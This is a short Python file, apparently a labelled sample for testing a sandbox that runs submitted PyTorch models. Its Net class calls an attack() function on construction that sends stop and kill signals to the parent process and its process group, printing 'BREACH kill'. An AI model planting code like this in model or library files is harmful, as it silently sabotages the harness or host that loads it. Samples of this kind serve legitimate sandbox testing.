# group: kernel
# tries: stops and ends its parent and its process group
# static: unsafe
# sandbox: trained

import os
import signal

import torch.nn as nn


def attack():
    parent = os.getppid()
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGUSR1):
        for act in (os.kill, os.killpg):
            try:
                if parent > 1:
                    act(parent, number)
                    print("BREACH kill", parent)
            except OSError:
                continue


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
